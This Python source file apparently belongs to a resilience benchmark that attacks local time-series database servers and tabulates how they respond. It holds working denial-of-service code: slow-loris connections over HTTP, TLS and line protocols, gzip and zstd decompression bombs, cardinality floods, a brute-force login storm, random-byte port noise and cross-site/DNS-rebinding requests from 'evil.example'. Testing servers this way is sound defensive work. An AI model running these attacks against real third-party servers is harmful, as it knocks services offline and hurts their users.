"""The attacks. Each takes a server and how long, and returns a remark for the table, or nothing."""
import base64
import gzip
import os
import random
import selectors
import socket
import struct
import threading
import time
import urllib.parse

from servers import TROUBLE

PIECE = b"a" * (1 << 20)

# So many writers keep a server busy, whether it works at their lines or waits for the disk.
WRITERS = 8
# Rows of one of their requests.
ROWS = 5_000


def until(seconds):
    deadline = time.monotonic() + seconds
    return lambda: time.monotonic() < deadline


def at_once(count, work, seconds):
    """Runs `work` on so many threads, again and again; what a server does about it is its affair."""
    goes_on = until(seconds)

    def again():
        while goes_on():
            try:
                work()
            except TROUBLE:
                time.sleep(0.01)

    threads = [threading.Thread(target=again, daemon=True) for _ in range(count)]
    [thread.start() for thread in threads]
    deadline = time.monotonic() + seconds + 30
    [thread.join(max(0.0, deadline - time.monotonic())) for thread in threads]


class Counts:
    """How often each status was answered."""

    def __init__(self):
        self.lock, self.by_status = threading.Lock(), {}

    def add(self, status):
        with self.lock:
            self.by_status[status] = self.by_status.get(status, 0) + 1

    def text(self):
        return ", ".join(f"{count} x {status}" for status, count in sorted(self.by_status.items()))


def held(server, seconds, count, first, drop, port=None):
    """Opens so many connections from several addresses, sends `first` on each, and a byte of `drop` every second."""
    goes_on, sockets, refused = until(seconds), [], 0
    while goes_on():
        if len(sockets) + refused < count:
            try:
                source = f"127.0.{len(sockets) // 2000}.{2 + len(sockets) % 50}"
                one = server.connect(port, 1.0, source)
                one.sendall(first)
                sockets.append(one)
            except TROUBLE:
                refused += 1
            continue
        time.sleep(1.0)
        for one in sockets if drop else []:
            try:
                one.sendall(drop)
            except OSError:
                pass
    closed = sum(is_closed(one) for one in sockets)
    [one.close() for one in sockets]
    return f"{len(sockets)} opened, {closed} of them closed by the server, {refused} refused"


def is_closed(one):
    one.setblocking(False)
    try:
        while True:
            if not one.recv(4096):
                return True
    except BlockingIOError:
        return False
    except OSError:
        return True


def loris(name):
    """Connections that begin something and go on by a byte a second; of each protocol its own beginning."""
    host = b"Host: localhost\r\n"
    begun = {
        "http": (b"POST /write?db=attacks HTTP/1.1\r\n" + host + b"X: ", b"a"),
        "body": (b"POST /write?db=attacks HTTP/1.1\r\n" + host + b"Content-Length: 1000000\r\n\r\nm", b"a"),
        "telnet": (b"put m 1 1 ", b"a"),
        "lines": (b"m,a=", b"b"),
        "tls": (b"\x16\x03\x01\x02\x00\x01\x00", b"\x00"),
        "ticktock": (b"put m 1 1 ", b"a"),
    }

    def attack(server, seconds):
        port = server.tcp_ports[0] if name == "ticktock" else None
        return held(server, seconds, 1000, *begun[name], port)

    return attack


def idle(server, seconds):
    return held(server, seconds, 10_000, b"", b"")


def bomb(packed, encoding):
    def attack(server, seconds):
        counts, body = Counts(), packed()
        at_once(20, lambda: counts.add(server.write(body, {"Content-Encoding": encoding}, 10)[0]), seconds)
        return counts.text()

    return attack


def gzip_bomb():
    return gzip.compress(PIECE * 512, 6)


def zstd_bomb():
    # A frame of blocks that each say "128 KiB of this byte".
    blocks = [struct.pack("<I", (128 << 10) << 3 | 1 << 1 | last)[:3] + b"a" for last in [0] * 4095 + [1]]
    return b"\x28\xb5\x2f\xfd\x00\x58" + b"".join(blocks)


def labels(server, seconds):
    counts = Counts()

    def work():
        tags = "".join(f",t{random.randrange(1 << 40)}={random.randrange(1 << 40)}" for _ in range(40))
        counts.add(server.write("".join(f"x{tags},n={n} v=1\n" for n in range(500)).encode(), patience=20)[0])

    at_once(4, work, seconds)
    return counts.text()


def fields(server, seconds):
    counts = Counts()

    def work():
        names = ",".join(f"f{random.randrange(1 << 40)}=1" for _ in range(10_000))
        counts.add(server.write(f"wide {names}\n".encode(), patience=20)[0])

    at_once(2, work, seconds)
    return counts.text()


def queries(server, seconds):
    counts = Counts()
    at_once(200, lambda: counts.add(server.heavy()[0]), seconds)
    return counts.text()


def logins(server, seconds):
    counts = Counts()

    def work():
        secret = base64.b64encode(f"root:{random.random()}".encode()).decode()
        counts.add(server.request("GET", "/query?q=SHOW%20USERS", authorization="Basic " + secret)[0])

    at_once(50, work, seconds)
    return counts.text()


def noise(server, seconds):
    ports = [server.port, *server.tcp_ports]

    def work():
        text = random.randbytes(random.choice([1, 16, 300, 5000]))
        for port in server.udp_ports:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(text[:1400], (server.host, port))
        with server.connect(random.choice(ports), 1.0) as one:
            one.sendall(text)
            one.settimeout(0.2)
            one.recv(1000)

    at_once(8, work, seconds)


def overload(server, seconds):
    """Three times as many writers as fill the server, against as many as fill it just before."""
    bodies = [
        "".join(f"good,host=h{n % 500},w={w} v={n} {1700000000 + n}000000000\n" for n in range(ROWS)).encode()
        for w in range(8)
    ]
    requests = [server.write_request(body) for body in bodies]
    usual = stored_per_s(server, requests, WRITERS, seconds / 4)
    under_load = stored_per_s(server, requests, 3 * WRITERS, seconds * 3 / 4)
    share = f"{under_load / usual:.0%} of what {WRITERS} writers store" if usual else f"{WRITERS} writers store nothing"
    return f"{under_load / 1e6:.2f} M values/s, {share}"


def stored_per_s(server, requests, writers, seconds):
    """Rows that are answered with success each second. One thread serves all writers, so that a writer more costs
    the attacker nothing: with a thread for each, Python's lock would be what is measured."""
    selector, goes_on, answered, began = selectors.DefaultSelector(), until(seconds), 0, time.monotonic()

    def begin(number):
        try:
            writer = Writer(server.connect(), requests[number % len(requests)])
        except OSError:
            return
        selector.register(writer.socket, writer.events, (number, writer))

    for number in range(writers):
        begin(number)
    while goes_on():
        ready = selector.select(0.1)
        for key, _ in ready:
            number, writer = key.data
            try:
                answered += writer.go_on() == 204
                selector.modify(writer.socket, writer.events, key.data)
            except OSError:
                selector.unregister(writer.socket)
                writer.socket.close()
                begin(number)
    elapsed_s = time.monotonic() - began
    for key in list(selector.get_map().values()):
        key.fileobj.close()
    return answered * ROWS / elapsed_s


class Writer:
    """Writes a request and reads its answer, again and again, as far as its socket is ready."""

    def __init__(self, connection, request):
        connection.setblocking(False)
        self.socket, self.request, self.sent, self.answer = connection, request, 0, b""

    @property
    def events(self):
        return selectors.EVENT_WRITE if self.sent < len(self.request) else selectors.EVENT_READ

    def go_on(self):
        """The status of the answer, once it is there."""
        if self.sent < len(self.request):
            self.sent += self.socket.send(memoryview(self.request)[self.sent:])
            return None
        piece = self.socket.recv(65536)
        if not piece:
            raise ConnectionError("the server has closed")
        self.answer += piece
        head, end, body = self.answer.partition(b"\r\n\r\n")
        length = next((int(line[15:]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), 0)
        if not end or len(body) < length:
            return None
        self.sent, self.answer = 0, b""
        return int(head.split()[1])


def cross_site(server, seconds):
    """What pages of other sites and names turned to this address may do; the browser knows the password."""
    foreign = {"Origin": "http://evil.example", "Sec-Fetch-Site": "cross-site"}
    bound = {"Host": "evil.example:80", "Origin": "http://evil.example:80", "Sec-Fetch-Site": "same-origin"}
    drop = "/query?q=" + urllib.parse.quote("CREATE DATABASE evil")
    tries = [
        ("POST", "/write?db=attacks", foreign), ("POST", drop, foreign), ("GET", drop, foreign),
        ("POST", "/write?db=attacks", bound), ("GET", "/query?db=attacks&q=SHOW%20MEASUREMENTS", bound),
        ("POST", drop, bound),
    ]
    accepted, goes_on = set(), until(seconds)
    while goes_on():
        for number, (method, path, headers) in enumerate(tries):
            try:
                status, _ = server.request(method, path, b"evil v=1" if method == "POST" else None, headers)
            except TROUBLE:
                continue
            if status < 300:
                accepted.add(number)
        time.sleep(0.01)
    return f"{len(accepted)} of {len(tries)} tries accepted"


ATTACKS = {
    "slow-loris: HTTP heads": loris("http"),
    "slow-loris: HTTP bodies": loris("body"),
    "slow-loris: telnet": loris("telnet"),
    "slow-loris: lines": loris("lines"),
    "slow-loris: TLS": loris("tls"),
    "slow-loris: TickTock": loris("ticktock"),
    "10 000 idle connections": idle,
    "gzip bombs": bomb(gzip_bomb, "gzip"),
    "zstd bombs": bomb(zstd_bomb, "zstd"),
    "new labels": labels,
    "new fields": fields,
    "200 heavy queries": queries,
    "login storm": logins,
    "random bytes on every port": noise,
    "three times the load": overload,
    "pages of other sites": cross_site,
}

# What only Foliot speaks.
FOLIOT_ONLY = {"slow-loris: telnet", "slow-loris: lines", "slow-loris: TLS", "slow-loris: TickTock"}
